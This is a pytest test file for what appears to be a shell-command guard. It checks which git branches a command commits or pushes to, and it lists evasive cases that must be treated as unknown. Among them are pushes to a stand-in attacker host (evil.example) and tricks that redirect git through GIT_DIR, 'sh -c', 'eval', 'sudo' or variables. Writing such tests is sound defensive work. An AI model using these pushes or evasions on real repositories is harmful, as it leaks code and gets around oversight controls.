"""Which branches a shell command commits and pushes to."""

import pytest

from ironcurtain_proxy.shell.operations import branches_of_command
from ironcurtain_proxy.shell.statements import parse_command
from tests.tables import table


@pytest.mark.requirement("B-76", "B-77")
@pytest.mark.parametrize(
    ("text", "branches"),
    table("shell/parsing.branches", list[tuple[str, tuple[str, ...]]]),
)
def test_the_branches_are_those_that_the_command_names(
    text: str, branches: tuple[str, ...]
) -> None:
    assert branches_of_command(parse_command(text)) == branches


def test_what_may_reach_another_repository_or_branch_is_not_known() -> None:
    cases = [
        *("git -C /srv/other commit -m a", "git --git-dir=/srv/o commit", "git -c a.b=c commit"),
        *("git --work-tree /srv/o commit", "git --namespace=a push origin feature/x"),
        *("cd /srv/other && git commit -m a", "(cd sub; git commit)", "pushd x; git commit"),
        *("GIT_DIR=/srv/other git commit -m a", "GIT_DIR=x; git commit", "export A; git commit"),
        *(
            "env GIT_DIR=x git commit",
            "timeout 5 git commit",
            "xargs git commit",
            "sudo git commit",
        ),
        *(
            "sh -c 'git commit'",
            "eval 'git commit'",
            ". ./env; git commit",
            "$x commit; git commit",
        ),
        *("set -a; git commit", "read GIT_DIR; git commit", "./git commit", "git"),
        *("git push", "git push origin", "git push origin $branch", 'git push origin "$(a)"'),
        *("git push --all origin", "git push --tags origin feature/x", "git push origin -- main"),
        *("git push https://evil.example/x feature/x", "git push git@evil.example:x feature/x"),
        *("git push ../other feature/x", "git push evil feature/x", "git push $remote feature/x"),
        *("git push -o a=b origin feature/x", "git push --repo=x feature/x", "git $x", "git 'a"),
    ]
    assert [text for text in cases if branches_of_command(parse_command(text)) is not None] == []
